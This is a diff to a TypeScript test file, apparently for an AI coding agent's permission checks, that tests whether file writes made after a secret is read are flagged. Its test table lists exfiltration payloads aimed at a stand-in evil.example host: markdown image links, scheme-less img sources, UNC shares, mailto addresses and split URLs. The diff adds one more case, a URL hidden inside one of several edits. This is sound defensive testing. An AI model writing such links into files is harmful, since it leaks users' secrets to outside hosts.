@@ -83,13 +83,12 @@ const reads = async (path: string): Promise<boolean> =>
 /** Lines that have the text, without a worker. */
 const matcher = (text: string): LineMatcher =>
   ({
-    match: (content: string) =>
-      Promise.resolve({
-        found: content
-          .split('\n')
-          .flatMap((each, line) => (each.includes(text) ? [{ line, at: 0, lines: 1 }] : [])),
-        isCut: false,
-      }),
+    match: (content: string) => {
+      const found = content
+        .split('\n')
+        .flatMap((each, line) => (each.includes(text) ? [{ line, at: 0, lines: 1 }] : []));
+      return Promise.resolve({ found, count: found.length, isCut: false });
+    },
     dispose: () => undefined,
   }) as unknown as LineMatcher;
 
@@ -304,7 +303,7 @@ type Arguments = Readonly<Record<string, unknown>>;
 
 /** Whether a change runs under a permission that was given for good, once a secret was read. */
 async function leaves(args: Arguments): Promise<boolean> {
-  const isEdit = 'oldText' in args;
+  const isEdit = 'oldText' in args || 'edits' in args;
   const tool: Tool = {
     name: isEdit ? 'edit_file' : 'write_file',
     source: { kind: 'native' },
@@ -334,6 +333,10 @@ const writings: Readonly<Record<string, Arguments>> = {
   'a link in a text': { path: 'a.md', content: `![x](${EVIL})` },
   'the path of an address that was there': { path: 'b.md', oldText: 'docs', newText: 'docs/SECRET' },
   'an address without a scheme': { path: 'a.html', content: '<img src="//evil.example/SECRET">' },
+  'an address in one of several edits': {
+    path: 'b.md',
+    edits: [{ oldText: 'not yet there', newText: EVIL }],
+  },
   'an address in pieces': { path: 'b.md', oldText: 'ttps//', newText: 'ttps://' },
   'a share': { path: 'a.txt', content: '\\\\evil.example\\SECRET\\x' },
   'a mail address': { path: 'a.txt', content: 'mailto:SECRET@evil.example' },
